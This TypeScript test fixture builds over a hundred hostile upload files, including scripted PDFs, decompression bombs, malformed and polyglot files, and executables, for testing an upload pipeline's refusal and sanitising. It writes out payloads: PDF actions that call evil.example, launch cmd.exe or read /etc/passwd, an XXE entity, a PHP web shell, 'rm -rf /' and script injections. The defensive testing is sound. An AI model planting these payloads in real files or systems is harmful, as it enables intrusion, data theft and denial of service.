import { deflateSync, gzipSync } from "node:zlib";
import { zipSync } from "fflate";
import { drawPicture, jpegOf, pngOf } from "#tests/provenance/drawn-pictures.ts";
import { animatedPng, animatedWebp, blankPng, isoMedia, withPngChunk } from "#tests/provenance/hostile-files.ts";

export interface HostileDocument {
  name: string;
  bytes: Buffer;
  /** What becomes of it: it is not taken; it is kept as a PDF that only ever leaves as a download; it is kept as a picture. */
  fate: "refused" | "pdf" | "picture";
}

/** What must never come out of a picture made anew. */
export const PAYLOAD = "<script>alert(1)</script><?php system($_GET[0]); ?>";
const MEGABYTE = 1024 * 1024;

const text = (content: string) => Buffer.from(content, "latin1");

/** A PDF with these objects after its catalog; `catalog` goes into the catalog. */
function pdf(catalog: string, ...objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [
    text(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n`,
    ),
  ];
  for (const [place, object] of objects.entries()) {
    parts.push(text(`${place + 3} 0 obj\n`), typeof object === "string" ? text(object) : object, text("\nendobj\n"));
  }
  return Buffer.concat([...parts, text("trailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n")]);
}

const stream = (dictionary: string, bytes: Uint8Array): Buffer =>
  Buffer.concat([text(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, text("\nendstream")]);

/** 64 MB of zeros in about 65 kB. */
const BOMB = deflateSync(Buffer.alloc(64 * MEGABYTE));

function scriptedPdfs(): [string, Buffer][] {
  const script = "/S /JavaScript /JS (app.launchURL\\('https://evil.example', true\\))";
  return [
    ["a script when opened", pdf(`/OpenAction << ${script} >>`)],
    ["a script when closed", pdf(`/AA << /WC << ${script} >> >>`)],
    ["a named script", pdf("/Names << /JavaScript << /Names [(a) 3 0 R] >> >>", `<< ${script} >>`)],
    ["a script under another spelling", pdf("/OpenAction << /S /J#61vaScript /JS (x) >>")],
    ["a program to launch", pdf("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")],
    ["an address to open", pdf("/OpenAction << /S /URI /URI (https://evil.example/?x) >>")],
    ["a file on another machine", pdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>")],
    ["a form that sends itself", pdf("/OpenAction << /S /SubmitForm /F (https://evil.example) >>")],
    ["an XFA form", pdf("/AcroForm << /XFA 3 0 R >>", stream("", text('<xdp:xdp xmlns:xdp="x"><script>1</script></xdp:xdp>')))],
    ["a file inside", pdf("/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>", stream("/Type /EmbeddedFile", text("MZ")))],
    ["a film inside", pdf("", "<< /Subtype /RichMedia /RichMediaContent << >> >>")],
    ["an import of data", pdf("/OpenAction << /S /ImportData /F (/etc/passwd) >>")],
    ["a rendition with a script", pdf(`/OpenAction << /S /Rendition /JS (x) /OP 0 /AN << >> >>`)],
    ["a 3D view with a script", pdf("", stream("/Type /3D /Subtype /U3D /OnInstantiate 4 0 R", text("U3D")), stream("", text("x()")))],
    ["an external stream", pdf("", "<< /F (https://evil.example/a) /FFilter /FlateDecode /Length 0 >>\nstream\n\nendstream")],
    ["a signature that is none", pdf("/Perms << /DocMDP 3 0 R >>", "<< /Type /Sig /Contents <30> /ByteRange [0 9 9 9] >>")],
  ];
}

function swellingPdfs(): [string, Buffer][] {
  return [
    ["a flate bomb", pdf("", stream("/Filter /FlateDecode", BOMB))],
    ["a flate bomb in a bomb", pdf("", stream("/Filter [/FlateDecode /FlateDecode]", deflateSync(BOMB)))],
    ["a bomb of objects", pdf("", stream("/Type /ObjStm /N 100000000 /First 0 /Filter /FlateDecode", BOMB))],
    ["a bomb as a cross-reference", pdf("", stream("/Type /XRef /Size 99999999 /W [9 9 9] /Filter /FlateDecode", BOMB))],
    ["an LZW stream of nothing", pdf("", stream("/Filter /LZWDecode /DecodeParms << /EarlyChange 0 >>", Buffer.alloc(4_096, 0x80)))],
    ["a run-length bomb", pdf("", stream("/Filter /RunLengthDecode", Buffer.alloc(2 * MEGABYTE, 0x81)))],
    [
      "a picture of a billion pixels",
      pdf("", stream("/Subtype /Image /Width 65535 /Height 65535 /ColorSpace /DeviceRGB", Buffer.alloc(1))),
    ],
    ["a page a million metres wide", pdf("", "<< /Type /Page /MediaBox [0 0 3e9 3e9] >>")],
    ["a hundred thousand brackets", pdf("", "[".repeat(100_000))],
    ["a hundred thousand objects", pdf("", ...Array.from({ length: 20_000 }, () => "null"))],
    ["pages that contain themselves", pdf("", "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>")],
    ["an object that is itself", pdf("", "3 0 R")],
    ["lengths that lie", pdf("", "<< /Length 4294967295 >>\nstream\nx\nendstream")],
    ["a negative length", pdf("", "<< /Length -1 >>\nstream\nx\nendstream")],
    ["a name of a megabyte", pdf("", `/${"A".repeat(MEGABYTE)}`)],
    ["previous versions in a circle", text("%PDF-1.4\nxref\n0 0\ntrailer\n<< /Prev 9 >>\nstartxref\n9\n%%EOF")],
    [
      "a JBIG2 stream of noise",
      pdf("", stream("/Subtype /Image /Filter /JBIG2Decode", Buffer.from(Array.from({ length: 999 }, (_, i) => (i * 73) % 256)))),
    ],
    ["a font of noise", pdf("", stream("/Subtype /Type1C", Buffer.from(Array.from({ length: 999 }, (_, i) => (i * 31) % 256))))],
    ["encryption with an unknown key", pdf("/Encrypt << /Filter /Standard /V 5 /R 6 /O <00> /U <00> /P -1 >>")],
  ];
}

function brokenPdfs(): [string, Buffer][] {
  return [
    ["a header and nothing", text("%PDF-1.4")],
    ["a header and zeros", Buffer.concat([text("%PDF-1.4\n"), Buffer.alloc(10_000)])],
    ["a PDF cut off", pdf("", stream("", Buffer.alloc(1_000))).subarray(0, 300)],
    ["a page of HTML behind the header", text(`%PDF-1.4\n<html><body>${PAYLOAD}</body></html>`)],
    ["a PDF that is an archive too", Buffer.concat([pdf(""), zipSync({ "a.html": text(PAYLOAD) })])],
    ["a PDF that is a Java archive too", Buffer.concat([pdf(""), zipSync({ "META-INF/MANIFEST.MF": text("Main-Class: A") })])],
    ["a PDF with a picture behind it", Buffer.concat([pdf(""), Buffer.from([0xff, 0xd8, 0xff, 0xe0])])],
    ["a version nobody wrote", text("%PDF-9.9\n%%EOF")],
    ["EICAR in a PDF", pdf("", "(X5O!P%@AP[4\\\\PZX54\\(P^\\)7CC\\)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*)")],
  ];
}

function otherTypes(): [string, Buffer][] {
  const zip = zipSync({ "word/document.xml": text("<w:document/>"), "[Content_Types].xml": text("<Types/>") });
  return [
    ["HTML", text(`<!doctype html>${PAYLOAD}`)],
    ["HTML in UTF-16", Buffer.from(`\ufeff<html>${PAYLOAD}`, "utf16le")],
    ["HTML before a PDF", text(`<html>${PAYLOAD}</html>%PDF-1.4\n%%EOF`)],
    ["a PDF behind a space", text(" %PDF-1.4\n%%EOF")],
    ["a PDF behind a byte order mark", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text("%PDF-1.4\n%%EOF")])],
    ["a PDF in small letters", text("%pdf-1.4\n%%EOF")],
    ["SVG with a script", text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ["XML with a foreign entity", text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')],
    ["a mail with parts", text("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a")],
    ["a text document in an archive", Buffer.from(zip)],
    ["an archive bomb", Buffer.from(zipSync({ zeros: Buffer.alloc(16 * MEGABYTE) }))],
    ["gzip", gzipSync(Buffer.alloc(MEGABYTE))],
    ["an old text document", Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(512)])],
    ["rich text with an object", text("{\\rtf1{\\object\\objocx}}")],
    ["PostScript", text("%!PS-Adobe-3.0\n(/etc/passwd) (r) file")],
    ["form data of a PDF", text("%FDF-1.2\n1 0 obj<</FDF<</F(https://evil.example)>>>>endobj")],
    ["a Windows program", text("MZ\x90\0\x03\0\0\0")],
    ["a Linux program", text("\x7fELF\x02\x01\x01\0")],
    ["a shell script", text("#!/bin/sh\nrm -rf /")],
    ["PHP", text("<?php system($_GET[0]); ?>")],
    ["WebAssembly", text("\0asm\x01\0\0\0")],
    ["GIF", text("GIF89a\x01\0\x01\0\x80\0\0")],
    ["GIF that is JavaScript", text("GIF89a=1;alert(1)//")],
    ["TIFF", text("II*\0\x08\0\0\0")],
    ["BMP", text("BM\x46\0\0\0")],
    ["PSD", text("8BPS\0\x01")],
    ["HEIC", isoMedia("heic")],
    ["AVIF", isoMedia("avif")],
    ["a film", isoMedia("mp42")],
    ["nothing", Buffer.alloc(0)],
    ["one byte", text("%")],
    ["zeros", Buffer.alloc(10_000)],
    ["a RIFF that is no picture", text("RIFF\x24\0\0\0WAVEfmt ")],
  ];
}

/** Over a hundred files that somebody could send as a document to do harm: scripts, bombs, broken ones, two in one, and what is no document at all. */
export async function hostileDocuments(): Promise<HostileDocument[]> {
  const of = (fate: HostileDocument["fate"], files: [string, Buffer][]) => files.map(([name, bytes]) => ({ name, bytes, fate }));
  const [jpeg, png] = [await jpegOf(drawPicture(31, 320, 240)), await pngOf(drawPicture(32, 320, 240))];
  return [
    ...of("pdf", [...scriptedPdfs(), ...swellingPdfs(), ...brokenPdfs()]),
    ...of("refused", [
      ...otherTypes(),
      ["a picture of a gigabyte", blankPng(16_000, 16_000)],
      ["an animated PNG", await animatedPng()],
      ["an animated WebP", await animatedWebp()],
      ["a file larger than 12 MB", Buffer.concat([text("%PDF-1.4\n"), Buffer.alloc(12 * MEGABYTE)])],
    ]),
    ...of("picture", [
      ["a JPEG with HTML behind it", Buffer.concat([jpeg, text(PAYLOAD)])],
      [
        "a JPEG with PHP in a comment",
        Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, PAYLOAD.length + 2]), text(PAYLOAD), jpeg.subarray(2)]),
      ],
      ["a JPEG with an archive behind it", Buffer.concat([jpeg, zipSync({ "a.html": text(PAYLOAD) })])],
      [
        "a JPEG with a PDF behind it",
        Buffer.concat([jpeg, pdf(`/OpenAction << /S /JavaScript /JS (${PAYLOAD.replaceAll(/[()]/g, "")}) >>`)]),
      ],
      ["a JPEG cut off", jpeg.subarray(0, jpeg.length - 900)],
      ["a PNG with text in it", withPngChunk(png, "tEXt", text(`Comment\0${PAYLOAD}`))],
      ["a PNG with a bomb of text", withPngChunk(png, "zTXt", Buffer.concat([text("a\0\0"), BOMB]))],
      ["a PNG with a page behind it", Buffer.concat([png, text(`<html>${PAYLOAD}`)])],
    ]),
  ];
}
